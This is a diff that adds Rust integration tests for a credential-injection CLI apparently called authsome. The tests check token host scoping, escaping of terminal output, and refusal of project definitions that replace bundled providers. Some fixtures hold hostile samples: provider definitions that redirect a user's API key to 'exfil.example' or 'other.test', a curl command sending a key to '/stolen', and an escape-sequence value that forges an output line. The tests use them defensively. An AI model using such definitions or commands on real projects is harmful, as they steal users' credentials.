@@ -511,3 +511,271 @@ fn item14_deny_stops_injection_in_a_running_up() {
     assert!(!auth("/denied").contains(&key), "denied, yet injected: {seen:?}");
     assert_eq!(auth("/allowed-again"), vec![key], "{seen:?}");
 }
+
+/// Item 13: `{base_url}` in `api_url` needs a base URL to fill it; without
+/// `oauth.base_url` the entry was bound to a made-up host and loaded silently.
+#[test]
+fn item13_base_url_in_api_url_needs_oauth_base_url_with_a_location() {
+    let text = "{\n  \"name\": \"ghe\",\n  \"auth_type\": \"api_key\",\n  \"flow\": \"api_key\",\n  \"api_url\": [\"api.ghe.test\", \"{base_url}/api/\"],\n  \"api_key\": {\"env_var\": \"GHE_KEY\"}\n}";
+    let err = authsome::providers::parse(text, "ghe.json").unwrap_err();
+    assert_eq!(err.code, 2);
+    assert!(err.message.starts_with("ghe.json:5:31: "), "{}", err.message);
+    assert!(err.message.contains("oauth.base_url is not set"), "{}", err.message);
+    // Through the command line too: the file is named with its line and column, nothing is installed.
+    let env = LoginEnv::new();
+    let file = env.dir.path().join("ghe.json");
+    std::fs::write(&file, text).unwrap();
+    let out = env.run(&["register", &file.display().to_string()], None);
+    assert_eq!(out.code, 2, "{}", out.all());
+    assert!(out.stderr.contains("ghe.json:5:31: ") && out.stderr.contains("oauth.base_url"), "{}", out.all());
+    assert!(!env.home().join("providers").join("ghe.json").exists());
+}
+
+/// Item 13: after `login github --base-url https://github.example.test` the
+/// Enterprise token was injected on api.github.com and its own host got
+/// nothing. It goes to its own host's `/api/` (v3 and uploads) only; the
+/// github.com connection beside it keeps api.github.com.
+#[test]
+fn item13_enterprise_token_goes_only_to_its_own_host() {
+    const GHE: &str = "github.example.test";
+    let fake = FakeAs::start_tls(Config { granted_scope: Some("repo,read:user".into()), ..Config::default() }, &[GHE]);
+    let mut env = LoginEnv::new();
+    let ca = env.dir.path().join("ghe-ca.pem");
+    std::fs::write(&ca, fake.ca_pem().unwrap()).unwrap();
+    let c = fake.config();
+    env.use_fake_browser(serde_json::json!({"client_id": c.client_id, "client_secret": c.client_secret.unwrap_or_default()}));
+    let resolve = format!("{GHE}:443:127.0.0.1:{}", fake.addr().port());
+    for (k, v) in [("AUTHSOME_RESOLVE", &resolve), ("FAKE_BROWSER_RESOLVE", &resolve), ("AUTHSOME_UPSTREAM_CA", &ca.display().to_string())]
+    {
+        env.set(k, v);
+    }
+    env.set("FAKE_BROWSER_CA", &ca.display().to_string());
+    // The bundled definition, not a test copy: providers/github.json must say where Enterprise lives.
+    let login = env.run(&["login", "github", "--connection", "enterprise", "--base-url", &format!("https://{GHE}")], None);
+    assert_eq!(login.code, 0, "{}", login.all());
+    assert_eq!(fake.requests_to("token").last().map(|r| r.headers["host"].clone()), Some(GHE.to_owned()));
+    let ghe_token = fake.access_tokens().last().unwrap().clone();
+    let public_token = "gho_public0123456789abcdef";
+    store_token(&env, "github", public_token);
+
+    let echo = Echo::start(&["api.github.com", GHE]);
+    env.set("AUTHSOME_RESOLVE", &format!("{},{}", echo.resolve("api.github.com"), echo.resolve(GHE)));
+    env.set("AUTHSOME_UPSTREAM_CA", &echo.ca_path.display().to_string());
+    let project = env.dir.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    std::fs::write(
+        project.join("authsome.toml"),
+        "[[providers.github]]\nconnection = \"default\"\n[[providers.github]]\nconnection = \"enterprise\"\n",
+    )
+    .unwrap();
+    let run = |args: &[&str]| {
+        let out = env.cmd(args).current_dir(&project).stdin(Stdio::null()).output().unwrap();
+        let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+        assert!(out.status.success(), "{args:?}: {all}");
+    };
+    run(&["allow"]);
+    let requests = [
+        ("GH_TOKEN_ENTERPRISE", format!("https://{GHE}/api/v3/user")),
+        ("GH_TOKEN_ENTERPRISE", format!("https://{GHE}/api/uploads/repos/o/r/releases/1/assets")),
+        ("GH_TOKEN_ENTERPRISE", format!("https://{GHE}/settings/profile")),
+        ("GH_TOKEN_ENTERPRISE", "https://api.github.com/enterprise-probe".to_owned()),
+        ("GH_TOKEN", "https://api.github.com/user".to_owned()),
+    ];
+    let script: String =
+        requests.iter().map(|(var, url)| format!("curl -s -o /dev/null -H \"Authorization: Bearer ${var}\" '{url}'; ")).collect();
+    run(&["exec", "--", "sh", "-c", &script]);
+    let seen = echo.seen();
+    let auth = |target: &str| seen.iter().find(|s| s.target == target).map(|s| s.header("authorization")).unwrap_or_default();
+    let ghe = format!("Bearer {ghe_token}");
+    assert_eq!(auth("/api/v3/user"), vec![ghe.clone()], "the Enterprise host's API: {seen:?}");
+    assert_eq!(auth("/api/uploads/repos/o/r/releases/1/assets"), vec![ghe.clone()], "{seen:?}");
+    assert!(!auth("/settings/profile").concat().contains(&ghe_token), "outside /api/: {seen:?}");
+    assert!(!auth("/enterprise-probe").concat().contains(&ghe_token), "an Enterprise token reached api.github.com: {seen:?}");
+    assert_eq!(auth("/user"), vec![format!("Bearer {public_token}")], "github.com keeps api.github.com: {seen:?}");
+    assert_eq!(seen.len(), requests.len(), "{seen:?}");
+}
+
+/// A project directory beside `env`'s home holding `toml` and the `files` it names.
+fn project_dir(env: &LoginEnv, toml: &str, files: &[(&str, &str)]) -> PathBuf {
+    let dir = env.dir.path().join("repo");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("authsome.toml"), toml).unwrap();
+    for (name, text) in files {
+        std::fs::write(dir.join(name), text).unwrap();
+    }
+    dir
+}
+
+/// `authsome ARGS` in `dir`.
+fn run_in(env: &LoginEnv, dir: &Path, args: &[&str]) -> crate::common::login_env::Out {
+    crate::common::login_env::finish(
+        env.cmd(args).current_dir(dir).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap(),
+    )
+}
+
+/// Item 3: `allow` showed "defines acme from …" and variable names only. It
+/// must show every host, port and path prefix each provider injects on, the
+/// `[run.env]` values, the `secret_env` names and the command, escaped.
+#[test]
+fn item03_allow_shows_every_host_variable_value_secret_env_and_command() {
+    let env = LoginEnv::new();
+    let acme = r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key",
+        "api_url": ["https://api.acme.test/v2", "api.acme.test:8443"], "api_key": {"env_var": "ACME_KEY"}}"#;
+    let toml = "[definitions]\nacme = \"acme.json\"\n[providers.acme]\n[providers.openai]\nsecret_env = \"CI_OPENAI_KEY\"\n\
+        [run]\ncommand = \"make deploy\"\nenv = { MODE = \"prod\\u001b[2J\\n  proxy     undeclared hosts: deny\", API_BASE = \"https://staging.example\" }\n";
+    let dir = project_dir(&env, toml, &[("acme.json", acme)]);
+    let out = run_in(&env, &dir, &["allow"]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    for shown in [
+        "api.openai.com",
+        "OPENAI_API_KEY",
+        "CI_OPENAI_KEY",
+        "api.acme.test/v2/*",
+        "api.acme.test:8443",
+        "ACME_KEY",
+        "make deploy",
+        "API_BASE=https://staging.example",
+        "MODE=prod\\x1b[2J\\n  proxy     undeclared hosts: deny",
+    ] {
+        assert!(out.stderr.contains(shown), "allow does not show {shown:?}:\n{}", out.stderr);
+    }
+    assert!(!out.stderr.contains('\x1b'), "a raw escape reached the terminal: {:?}", out.stderr);
+    assert_eq!(out.stderr.matches("\n  proxy").count(), 1, "a value drew a line of its own:\n{}", out.stderr);
+    // The same in --json, for scripts that review before they allow.
+    assert_eq!(run_in(&env, &dir, &["deny"]).code, 0);
+    let out = run_in(&env, &dir, &["allow", "--json"]);
+    assert_eq!(out.code, 0, "{}", out.all());
+    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    let g = &v["grants"];
+    let acme = g["providers"].as_array().unwrap().iter().find(|p| p["provider"] == "acme").unwrap();
+    assert_eq!(acme["injects_on"], serde_json::json!(["api.acme.test/v2/*", "api.acme.test:8443"]));
+    let openai = g["providers"].as_array().unwrap().iter().find(|p| p["provider"] == "openai").unwrap();
+    assert_eq!(openai["injects_on"], serde_json::json!(["api.openai.com"]));
+    assert_eq!(openai["secret_env"], "CI_OPENAI_KEY");
+    assert_eq!(g["env"]["API_BASE"], "https://staging.example");
+    assert_eq!(g["command"], "make deploy");
+    assert_eq!(g["warnings"], serde_json::json!([]));
+}
+
+/// Item 3: a project definition named like the bundled `openai` with
+/// `api_url = "exfil.example"` took the user's existing key there after a
+/// plain `allow`, which said only "defines openai from …". Now `allow` says
+/// so on a warning line of its own (old → new hosts, also in --json) and
+/// refuses, changing nothing, unless told `--replace openai`.
+#[test]
+fn item03_a_definition_replacing_the_bundled_openai_needs_replace_and_says_so_loudly() {
+    let env = home_with_openai();
+    let evil = r#"{"name": "openai", "auth_type": "api_key", "flow": "api_key", "api_url": "exfil.example",
+        "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "OPENAI_API_KEY"}}"#;
+    let dir = project_dir(&env, "[definitions]\nopenai = \"openai.json\"\n[providers.openai]\n", &[("openai.json", evil)]);
+    let loud = "REPLACES the bundled definition of openai";
+    let out = run_in(&env, &dir, &["allow"]);
+    assert_eq!(out.code, 2, "a plain allow let the project redirect the user's key:\n{}", out.all());
+    assert!(out.stderr.contains(&format!("! {loud}")), "not on a warning line of its own:\n{}", out.stderr);
+    assert!(out.stderr.contains("api.openai.com → exfil.example"), "{}", out.stderr);
+    assert!(out.stderr.contains("authsome allow --replace openai"), "the message names the explicit command: {}", out.stderr);
+    let status = run_in(&env, &dir, &["status", "--json"]);
+    let v: serde_json::Value = serde_json::from_str(&status.stdout).unwrap();
+    assert_eq!(v["trust"], "not_allowed", "a refused allow changed nothing: {}", status.all());
+    assert!(v["grants"]["warnings"][0].as_str().unwrap().contains(loud), "{v}");
+    let status = run_in(&env, &dir, &["status"]);
+    assert!(status.stderr.contains(loud) && status.stderr.contains("exfil.example"), "{}", status.all());
+    // exec refuses the project (not allowed), so nothing reaches exfil.example.
+    let exec = run_in(&env, &dir, &["exec", "--", "true"]);
+    assert_eq!(exec.code, 2, "{}", exec.all());
+
+    let json = run_in(&env, &dir, &["allow", "--json"]);
+    assert_eq!(json.code, 2, "{}", json.all());
+    let err: serde_json::Value = serde_json::from_str(json.stderr.lines().last().unwrap()).unwrap();
+    assert!(err["message"].as_str().unwrap().contains(loud), "{err}");
+    assert_eq!(run_in(&env, &dir, &["allow", "--replace", "anthropic"]).code, 2, "--replace must name what is replaced");
+
+    let ok = run_in(&env, &dir, &["allow", "--replace", "openai", "--json"]);
+    assert_eq!(ok.code, 0, "{}", ok.all());
+    assert!(ok.stderr.contains(loud), "still loud when confirmed: {}", ok.stderr);
+    let v: serde_json::Value = serde_json::from_str(&ok.stdout).unwrap();
+    assert!(v["grants"]["warnings"][0].as_str().unwrap().contains("api.openai.com → exfil.example"), "{v}");
+    let replaces = &v["grants"]["definitions"][0]["replaces"];
+    assert_eq!(
+        (replaces["replaces"].as_str(), replaces["before"].clone(), replaces["after"].clone()),
+        (Some("bundled"), serde_json::json!(["api.openai.com"]), serde_json::json!(["exfil.example"]))
+    );
+    // Allowed as it is: allowing again grants nothing new, and still says what it replaces.
+    let again = run_in(&env, &dir, &["allow"]);
+    assert_eq!(again.code, 0, "{}", again.all());
+    assert!(again.stderr.contains(loud), "{}", again.stderr);
+    // Any edit asks again, with the flag again.
+    std::fs::write(dir.join("authsome.toml"), "[definitions]\nopenai = \"openai.json\"\n[providers.openai]\n[run]\ncommand = \"true\"\n")
+        .unwrap();
+    assert_eq!(run_in(&env, &dir, &["allow"]).code, 2);
+}
+
+/// Item 3: `up`'s prompt offered "Allow it? [y/N]" for a project whose
+/// definition takes the place of the user's own `acme` (sending the user's
+/// acme key to another host). A "y" never replaces a definition: `up` shows
+/// what would change and names `allow --replace acme`.
+#[test]
+fn item03_up_never_takes_a_y_for_a_definition_replacing_the_users_own() {
+    use crate::common::project_run::{ProjectWorld, Pty};
+    let w = ProjectWorld::new();
+    let evil = r#"{"name": "acme", "auth_type": "api_key", "flow": "api_key", "api_url": "other.test",
+        "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": "ACME_API_KEY"}}"#;
+    std::fs::write(w.dir.join("acme.json"), evil).unwrap();
+    w.write_toml(&format!(
+        "[definitions]\nacme = \"acme.json\"\n[providers.acme]\n[run]\ncommand = '''{}'''\n",
+        crate::common::project_run::curl_with("ACME_API_KEY", "https://other.test/stolen")
+    ));
+    let mut pty = Pty::spawn(w.cmd(&["up"]));
+    pty.send("y\n");
+    assert_eq!(pty.wait(), 2, "{}", pty.output());
+    let shown = pty.output();
+    assert!(shown.contains("REPLACES your definition of acme") && shown.contains("api.acme.test → other.test"), "{shown}");
+    assert!(shown.contains("authsome allow --replace acme"), "{shown}");
+    assert!(!shown.contains("Allow it?"), "a y must not replace a definition: {shown}");
+    assert!(w.world.echo.seen().is_empty(), "the key went somewhere: {:?}", w.world.echo.seen());
+}
+
+/// Item 13: the routes of a running `run` are built from each connection's
+/// base URL when it starts. Logged in again with `--base-url` while it runs,
+/// the connection's new Enterprise token was injected on the old host
+/// (api.github.com). The source refuses a connection whose hosts changed.
+#[test]
+fn item13_a_connection_logged_in_again_elsewhere_is_not_injected_on_its_old_hosts() {
+    let echo = Echo::start(&["api.github.com"]);
+    let env = upstream_env(&echo, &["api.github.com"], &[]);
+    store_token(&env, "github", "gho_public0123456789abcdef");
+    let sync = tempfile::tempdir().unwrap();
+    let (ready, go) = (sync.path().join("ready"), sync.path().join("go"));
+    let curl = |path: &str| format!("curl -s -o /dev/null -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com{path}");
+    let script = format!(
+        "{}; touch '{}'; while [ ! -f '{}' ]; do sleep 0.05; done; {}",
+        curl("/before"),
+        ready.display(),
+        go.display(),
+        curl("/after")
+    );
+    let child =
+        env.cmd(&["run", "--", "sh", "-c", &script]).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while !ready.exists() {
+        assert!(Instant::now() < deadline, "the child never got to its first request");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let home = authsome::paths::Home::at(env.home(), "default");
+    authsome::vault::Vault::open(&home)
+        .unwrap()
+        .update(|d| {
+            let mut c = authsome::vault::Connection::oauth("github", "default", authsome::secret::Secret::new("ghe-enterprise-token-0123"));
+            c.base_url = Some("https://github.example.test".into());
+            d.put_connection(c);
+            Ok(())
+        })
+        .unwrap();
+    std::fs::write(&go, "").unwrap();
+    let out = crate::common::login_env::finish(child);
+    assert_eq!(out.code, 0, "{}", out.all());
+    let seen = echo.seen();
+    let auth = |target: &str| seen.iter().find(|s| s.target == target).map(|s| s.header("authorization")).unwrap_or_default();
+    assert_eq!(auth("/before"), vec!["Bearer gho_public0123456789abcdef".to_owned()], "{seen:?}");
+    assert!(!auth("/after").concat().contains("ghe-enterprise-token"), "the Enterprise token reached api.github.com: {seen:?}");
+}
